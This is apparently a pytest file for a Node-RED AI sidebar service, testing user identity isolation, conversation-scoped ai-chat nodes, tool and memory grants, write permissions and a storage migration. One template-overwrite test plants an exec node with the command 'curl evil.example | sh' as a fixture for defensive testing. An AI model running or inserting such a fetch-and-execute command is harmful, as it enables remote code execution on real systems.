"""Identities and rights (issue 14 items 1, 5, 6, 7): exact editor users, ai-chat nodes scoped to a conversation
with only the tools and memory their config grants, shared templates nobody can overwrite, tools by name only with
write permission, and another user's session answered exactly like an unknown one."""

from __future__ import annotations

import json
import sqlite3

import aiohttp
import pytest

from service.identity import ANONYMOUS, Identity
from service.memory.store import MIGRATIONS, MemoryStore
from tests.conftest import SERVICE_TOKEN
from tests.support.model_server import Reply
from tests.support.nodered import admin_auth_nodered
from tests.support.sse import read_events


def user(name: str) -> dict[str, str]:
    """Headers of an editor request, the user name encoded the way the plugin does (encodeURIComponent)."""
    from urllib.parse import quote
    return {"X-Node-RED-User": quote(name, safe="-_.!~*'()")}


def flow_node(node_id: str, grants: str = "", conversation: str | None = None) -> dict[str, str]:
    """Headers of an ai-chat node's request (contracts.md): always read permission."""
    headers = {"X-AI-Sidebar-Flow-Node": node_id, "X-AI-Sidebar-Flow-Grants": grants,
               "X-AI-Sidebar-Permission": "read"}
    if conversation is not None:
        headers["X-AI-Sidebar-Conversation"] = conversation
    return headers


READER = {**user("rita"), "X-AI-Sidebar-Permission": "read"}


async def chat(client, headers, **body):
    response = await client.post("/ai-sidebar/stream-chat", json=body, headers=headers)
    assert response.status == 200, await response.text()
    return await read_events(response)


def kinds(events):
    return [e["type"] for e in events]


def everything_sent_to_the_model(model) -> str:
    return json.dumps(model.requests, ensure_ascii=False)


async def session_ids(client, headers) -> set[str]:
    response = await client.get("/ai-sidebar/sessions", headers=headers)
    assert response.status == 200, await response.text()
    return {s["id"] for s in (await response.json())["sessions"]}


# -- item 5: identity collisions ------------------------------------------------------------------------------------

async def test_a_user_named_admin_with_a_trailing_space_reads_nothing_of_admin(client, model):
    model.script(Reply(text="Noted."))
    await chat(client, user("admin"), message="the admin password idea is kumquat", sessionId="adm-1")
    spaced = user("admin ")
    assert spaced["X-Node-RED-User"] == "admin%20"
    assert await session_ids(client, spaced) == set()
    response = await client.get("/ai-sidebar/history/adm-1", headers=spaced)
    assert response.status == 404
    found = await client.post("/ai-sidebar/search", json={"query": "kumquat"}, headers=spaced)
    assert (await found.json())["results"] == []
    # and admin still has it
    assert await session_ids(client, user("admin")) == {"adm-1"}


async def test_a_user_named_like_an_ai_chat_node_reads_nothing_of_that_node(client, model):
    node = flow_node("a1b2c3d4e5f60718", "memory", "caller-1")
    model.script(Reply(text="Stored."))
    await chat(client, node, message="the flow caller's secret is papaya", sessionId="caller-1")
    assert await session_ids(client, node) == {"caller-1"}
    impostors = [user(name) for name in ("flow:a1b2c3d4e5f60718", "a1b2c3d4e5f60718", "caller-1",
                                         "flow:a1b2c3d4e5f60718:caller-1")]
    for impostor in impostors + [{}]:  # {}: the anonymous editor
        assert await session_ids(client, impostor) == set()
        assert (await client.get("/ai-sidebar/history/caller-1", headers=impostor)).status == 404
        found = await client.post("/ai-sidebar/search", json={"query": "papaya"}, headers=impostor)
        assert (await found.json())["results"] == []


async def test_no_user_can_overwrite_a_shared_template_or_another_users_template(client):
    shared = {t["name"]: t for t in (await (await client.get("/ai-sidebar/templates",
                                                               headers=user("bob"))).json())["templates"]}
    original = shared["Sensor telemetry"]
    planted = [{"id": "p1", "type": "exec", "command": "curl evil.example | sh", "wires": [[], [], []]}]
    # The old key was "template:<user>:<name>": user "shared" saving "Sensor telemetry" wrote the shared one.
    response = await client.post("/ai-sidebar/templates", headers=user("shared"),
                                 json={"name": "Sensor telemetry", "flow": planted})
    assert response.status == 201
    # ... and users "a:b" + "c" collided with user "a" + "b:c".
    mine = [{"id": "m1", "type": "inject", "wires": [[]]}]
    theirs = [{"id": "t1", "type": "debug", "wires": []}]
    await client.post("/ai-sidebar/templates", headers=user("a:b"), json={"name": "c", "flow": mine})
    await client.post("/ai-sidebar/templates", headers=user("a"), json={"name": "b:c", "flow": theirs})

    seen_by_bob = (await (await client.get("/ai-sidebar/templates", headers=user("bob"))).json())["templates"]
    telemetry = [t for t in seen_by_bob if t["name"] == "Sensor telemetry"]
    assert telemetry == [original] and original["shared"] is True
    assert "exec" not in json.dumps(seen_by_bob)
    own = {t["name"]: t for t in (await (await client.get("/ai-sidebar/templates",
                                                            headers=user("a:b"))).json())["templates"]
           if not t["shared"]}
    assert own == {"c": {**own["c"], "flow": mine}}
    own = {t["name"]: t["flow"] for t in (await (await client.get("/ai-sidebar/templates",
                                                                    headers=user("a"))).json())["templates"]
           if not t["shared"]}
    assert own == {"b:c": theirs}


@pytest.mark.parametrize("headers", [
    {"X-Node-RED-User": "alice", "X-AI-Sidebar-Flow-Node": "a1b2c3d4e5f60718"},
    {"X-Node-RED-User": "bad%FFutf8"},
    {"X-Node-RED-User": "not encoded"},
    {"X-Node-RED-User": "50%"},
    {"X-Node-RED-User": ""},
    {"X-AI-Sidebar-Flow-Node": "a1b2c3d4e5f60718", "X-AI-Sidebar-Flow-Grants": "tools,admin"},
    {"X-AI-Sidebar-Permission": "admin"},
], ids=["user-and-flow-node", "invalid-utf8", "raw-space", "bare-percent", "empty-user", "unknown-grant",
        "unknown-permission"])
async def test_headers_that_could_blur_an_identity_are_refused(client, headers):
    for method, path, body in (("POST", "/ai-sidebar/stream-chat", {"message": "hi"}),
                               ("GET", "/ai-sidebar/sessions", None)):
        response = await client.request(method, path, json=body, headers=headers)
        assert response.status == 400
        assert (await response.json())["error"]["code"] == "invalid_request"


@pytest.fixture(scope="module")
def twin_admins_nodered(tmp_path_factory, service_process):
    """adminAuth with users "admin" and "admin " (Node-RED accepts both names), the plugin pointed at the service."""
    instance = admin_auth_nodered(tmp_path_factory.mktemp("nodered-twins"),
                                  {"admin": ("admin-pass", "*"), "admin ": ("spaced-pass", "*")},
                                  service_process.service_port, SERVICE_TOKEN)
    instance.start()
    yield instance
    instance.stop()


async def login(http, nodered, name, password):
    form = {"client_id": "node-red-admin", "grant_type": "password", "scope": "*", "username": name,
            "password": password}
    async with http.post(f"{nodered.url}/auth/token", data=form) as response:
        assert response.status == 200, await response.text()
        return {"Authorization": f"Bearer {(await response.json())['access_token']}"}


async def test_node_red_users_admin_and_admin_space_have_separate_sessions(twin_admins_nodered, model):
    base = f"{twin_admins_nodered.url}/ai-sidebar"
    async with aiohttp.ClientSession() as http:
        admin = await login(http, twin_admins_nodered, "admin", "admin-pass")
        spaced = await login(http, twin_admins_nodered, "admin ", "spaced-pass")
        async with http.get(f"{twin_admins_nodered.url}/settings", headers=spaced) as response:
            assert (await response.json())["user"]["username"] == "admin "
        model.script(Reply(text="Noted."))
        async with http.post(f"{base}/stream-chat", headers=admin,
                             json={"message": "admin's plan: rotate the quince key", "sessionId": "twin-admin"}) as r:
            assert kinds(await read_events(r))[-1] == "done"
        async with http.get(f"{base}/sessions", headers=spaced) as response:
            assert "twin-admin" not in {s["id"] for s in (await response.json())["sessions"]}
        async with http.get(f"{base}/history/twin-admin", headers=spaced) as response:
            assert response.status == 404
        async with http.post(f"{base}/search", headers=spaced, json={"query": "quince"}) as response:
            assert (await response.json())["results"] == []
        async with http.get(f"{base}/history/twin-admin", headers=admin) as response:
            assert [m["content"] for m in (await response.json())["messages"]][0].endswith("quince key")


# -- item 1: ai-chat nodes ------------------------------------------------------------------------------------------

async def test_two_conversations_of_one_ai_chat_node_never_see_each_others_words(client, model):
    first = flow_node("c0ffee0000000001", "tools,memory", "caller-a")
    second = flow_node("c0ffee0000000001", "tools,memory", "caller-b")
    model.script(Reply(text="I will keep the word zeppelin in mind."))
    await chat(client, first, message="my private word is zeppelin", sessionId="conv")
    model.reset()

    # the same session id in another conversation: no history reaches the model
    model.script(Reply(tool_calls=[{"name": "search_memory", "arguments": {"query": "zeppelin"}}]),
                 Reply(text="I found nothing."))
    events = await chat(client, second, message="What did others tell you? Search your memory.", sessionId="conv")
    result = next(e for e in events if e["type"] == "tool_result")
    assert result["tool"] == "search_memory" and result["ok"] is True and result["result"] == "No match."
    answered = [m["content"] for m in model.requests[1]["messages"] if m["role"] == "tool"]
    assert len(answered) == 1 and "zeppelin" not in answered[0]
    assert [m["role"] for m in model.requests[0]["messages"]] == ["system", "user"]
    assert "zeppelin" not in json.dumps(model.requests[0])

    response = await client.get("/ai-sidebar/history/conv", headers=second)
    # Its own search (the word is in the tool card it showed) but none of the first conversation's messages.
    shown = await response.text()
    assert "my private word" not in shown and "keep the word" not in shown
    assert [m["content"] for m in (await response.json())["messages"]][0].startswith("What did others")
    found = await client.post("/ai-sidebar/search", json={"query": "zeppelin"}, headers=second)
    assert (await found.json())["results"] == []
    assert await session_ids(client, flow_node("c0ffee0000000001", "memory", "caller-c")) == set()
    # the first conversation still has its own words, and only them
    response = await client.get("/ai-sidebar/history/conv", headers=first)
    assert [m["content"] for m in (await response.json())["messages"]] == [
        "my private word is zeppelin", "I will keep the word zeppelin in mind."]


async def test_an_ai_chat_node_without_grants_runs_no_tool_even_for_explain_the_current_flow(client, nodered,
                                                                                             model):
    tab = max(nodered.tabs(), key=lambda t: len(nodered.nodes_of(t["id"])))
    node = flow_node("c0ffee0000000002", "", "caller-a")
    for message in ("explain the current flow", "What could go wrong in my flows?", "show me the current config"):
        model.reset()
        events = await chat(client, node, message=message, selectedFlow={"id": tab["id"]}, sessionId="s-x",
                            language="en-US")
        assert kinds(events)[-1] == "done" and "tool_call" not in kinds(events) and "error" not in kinds(events)
        assert len(model.requests) == 1 and "tools" not in model.requests[0]
        sent = everything_sent_to_the_model(model)
        assert not [n["id"] for n in nodered.nodes_of(tab["id"]) if n["id"] in sent]
    # and no memory: nothing was stored for the conversation
    assert await session_ids(client, flow_node("c0ffee0000000002", "memory", "caller-a")) == set()


async def test_an_ai_chat_node_with_memory_but_no_conversation_reads_and_stores_nothing(client, settings, model):
    node = flow_node("c0ffee0000000003", "memory")
    model.script(Reply(text="First answer."), Reply(text="Second answer."))
    await chat(client, node, message="remember mango", sessionId="same")
    await chat(client, node, message="what did I say?", sessionId="same")
    assert [m["role"] for m in model.requests[1]["messages"]] == ["system", "user"]
    response = await client.get("/ai-sidebar/sessions", headers=node)
    assert response.status == 403 and (await response.json())["error"]["code"] == "forbidden"
    assert await session_ids(client, flow_node("c0ffee0000000003", "memory", "same")) == set()
    with sqlite3.connect(settings.memory_db_path) as raw:
        assert raw.execute("SELECT COUNT(*) FROM short_term_memory").fetchone()[0] == 0


async def test_an_ai_chat_node_with_tools_only_is_not_offered_memory_tools(client, model):
    node = flow_node("c0ffee0000000004", "tools", "caller-a")
    await chat(client, node, message="What could go wrong in my flows?", sessionId="s-t")
    offered = {t["function"]["name"] for t in model.requests[0]["tools"]}
    assert "get_flow" in offered and not offered & {"search_memory", "get_user_preferences", "get_flow_templates"}


async def test_an_ai_config_node_that_turns_tools_off_wins_over_the_grant(client, model):
    node = flow_node("c0ffee0000000005", "tools,memory", "caller-a")
    provider = {"provider": "openai-compatible", "baseUrl": model.base_url, "apiKey": "sk-cfg-0000000000000000",
                "model": "local-llama", "tools": False}
    events = await chat(client, node, message="What could go wrong in my flows?", provider=provider)
    assert "tool_call" not in kinds(events) and "tools" not in model.requests[0]


@pytest.mark.parametrize("headers", [flow_node("c0ffee0000000006", "tools,memory", "caller-a"), READER],
                         ids=["ai-chat-node", "read-only-editor-user"])
async def test_running_a_tool_by_name_without_write_permission_is_forbidden_then_done(client, nodered, model,
                                                                                      headers):
    tab = nodered.tabs()[0]
    for message in ("@tools:get_flow", f"@tools:get_flow|['{tab['id']}']", "@tools:search_memory|{bad",
                    "@tools:no-such-tool"):
        model.reset()
        events = await chat(client, headers, message=message, selectedFlow={"id": tab["id"]})
        assert kinds(events) == ["error", "done"]
        assert events[0]["code"] == "forbidden" and "ai-sidebar.write" in events[0]["message"]
        assert model.requests == []


# -- item 6: the permission rule ------------------------------------------------------------------------------------

async def test_a_read_only_user_keeps_keyword_and_agent_tools(client, nodered, model):
    tab = nodered.tabs()[0]
    events = await chat(client, READER, message="explain the current flow", selectedFlow={"id": tab["id"]})
    assert events[0]["type"] == "tool_call" and events[0]["origin"] == "keyword" and events[1]["ok"] is True
    model.reset()
    model.script(Reply(tool_calls=[{"name": "get_flow", "arguments": {"flow_id": tab["id"]}}]), Reply(text="Ok."))
    events = await chat(client, READER, message="What could go wrong here?")
    assert events[0] == {"type": "tool_call", "tool": "get_flow", "params": {"flow_id": tab["id"]},
                         "origin": "agent"}


async def test_execute_tool_and_changes_to_sessions_and_templates_need_write(client, nodered):
    writer = user("rita")
    created = await client.post("/ai-sidebar/sessions", json={"id": "rita-1"}, headers=writer)
    assert created.status == 201
    refused = [
        ("POST", "/ai-sidebar/execute-tool", {"tool": "get_flow", "params": {"flow_id": nodered.tabs()[0]["id"]}}),
        ("POST", "/ai-sidebar/sessions", {"id": "rita-2"}),
        ("PATCH", "/ai-sidebar/sessions/rita-1", {"name": "renamed"}),
        ("DELETE", "/ai-sidebar/sessions/rita-1", None),
        ("POST", "/ai-sidebar/templates", {"name": "t", "flow": [{"id": "a", "type": "inject"}]}),
    ]
    for method, path, body in refused:
        response = await client.request(method, path, json=body, headers=READER)
        assert response.status == 403, (method, path)
        assert (await response.json())["error"]["code"] == "forbidden"
    assert await session_ids(client, READER) == {"rita-1"}  # reading stays allowed, nothing changed
    response = await client.post("/ai-sidebar/execute-tool", headers=writer,
                                 json={"tool": "get_flow", "params": {"flow_id": nodered.tabs()[0]["id"]}})
    assert response.status == 200


# -- item 7: another user's session is an unknown session ----------------------------------------------------------

async def test_another_users_session_is_answered_exactly_like_an_unknown_one(client, model):
    alice, bob = user("alice"), user("bob")
    await chat(client, alice, message="alice's question", sessionId="s-alice")

    def same(answer_for_foreign, answer_for_unknown):
        status, body = answer_for_foreign
        assert (status, body.replace("s-alice", "ID")) == (answer_for_unknown[0],
                                                           answer_for_unknown[1].replace("s-nobody", "ID"))

    for method, path, body in (("GET", "/ai-sidebar/history/{}", None),
                               ("PATCH", "/ai-sidebar/sessions/{}", {"name": "mine now"}),
                               ("DELETE", "/ai-sidebar/sessions/{}", None)):
        answers = []
        for session_id in ("s-alice", "s-nobody"):
            response = await client.request(method, path.format(session_id), json=body, headers=bob)
            answers.append((response.status, await response.text()))
        same(*answers)
        assert answers[0][0] == 404
    answers = []
    for session_id in ("s-alice", "s-nobody"):
        response = await client.post("/ai-sidebar/sessions", json={"id": session_id}, headers=bob)
        created = await response.json()
        answers.append((response.status, json.dumps({"id": created["id"], "name": created["name"]})))
    same(*answers)
    assert answers[0][0] == 201
    streams = []
    for session_id in ("s-alice", "s-nobody"):
        model.reset()
        events = await chat(client, bob, message="bob's question", sessionId=session_id)
        streams.append((kinds(events), events[-1]["sessionId"]))
        assert [m["role"] for m in model.requests[0]["messages"]] == ["system", "user"]
    assert streams == [(streams[0][0], "s-alice"), (streams[0][0], "s-nobody")] and "error" not in streams[0][0]
    history = await (await client.get("/ai-sidebar/history/s-alice", headers=alice)).json()
    assert [m["content"] for m in history["messages"]][0] == "alice's question" and len(history["messages"]) == 2


# -- migration ------------------------------------------------------------------------------------------------------

async def test_migration_keeps_editor_memory_and_drops_flow_node_rows(tmp_path):
    path = tmp_path / "memory.db"
    with sqlite3.connect(path) as raw:  # a database as version 1 left it
        raw.executescript(f"BEGIN; {MIGRATIONS[0].sqlite}; PRAGMA user_version=1; COMMIT;")
        for session_id, owner in (("s-anon", "default"), ("s-alice", "alice"), ("s-node", "flow:n1")):
            raw.execute("INSERT INTO sessions(id, user, name, created_at, updated_at) VALUES (?, ?, '', 1, 1)",
                        (session_id, owner))
            raw.execute("INSERT INTO short_term_memory(session_id, message_type, content, created_at) "
                        "VALUES (?, 'user', ?, 1)", (session_id, f"{owner} asked about persimmon"))
        for key, owner in (("template:shared:Tick", None), ("template:alice:Mine", "alice"),
                           ("template:flow:n1:Node", "flow:n1"), ("template:default:Anon", "default")):
            raw.execute("INSERT INTO long_term_memory(key, value, category, metadata, user, created_at, updated_at) "
                        "VALUES (?, '[]', 'template', '{}', ?, 1, 1)", (key, owner))

    store = await MemoryStore.open(path)
    try:
        assert await store.schema_version() == len(MIGRATIONS) == 9
        alice = Identity("user", "alice")
        assert [s["id"] for s in await store.sessions(ANONYMOUS)] == ["s-anon"]
        assert [s["id"] for s in await store.sessions(alice)] == ["s-alice"]
        assert [t.content for t in await store.history(alice, "s-alice")] == ["alice asked about persimmon"]
        assert [r["sessionId"] for r in await store.search(ANONYMOUS, "persimmon")] == ["s-anon"]
        for impostor in (Identity("user", "flow:n1"), Identity("user", "default"), Identity("flow", "n1", "s-node")):
            assert await store.sessions(impostor) == [] and await store.search(impostor, "persimmon") == []
        assert {(t["key"], t["shared"]) for t in await store.knowledge("template", alice)} == {("Tick", True),
                                                                                             ("Mine", False)}
        assert {t["key"] for t in await store.knowledge("template", ANONYMOUS)} == {"Tick", "Anon"}
        assert [r["key"] for r in await store.search(alice, "Mine")] == ["Mine"]
        await store.save_turn("s-new", alice, "a new persimmon question", "", {})
    finally:
        await store.close()
    with sqlite3.connect(path) as raw:
        assert raw.execute("SELECT COUNT(*) FROM short_term_memory").fetchone()[0] == 3
        assert "n1" not in json.dumps(raw.execute("SELECT * FROM sessions").fetchall())
        assert "n1" not in json.dumps(raw.execute("SELECT * FROM long_term_memory").fetchall())
        raw.execute("INSERT INTO messages_fts(messages_fts) VALUES ('integrity-check')")
        raw.execute("INSERT INTO knowledge_fts(knowledge_fts) VALUES ('integrity-check')")
        assert raw.execute("PRAGMA foreign_key_check").fetchall() == []
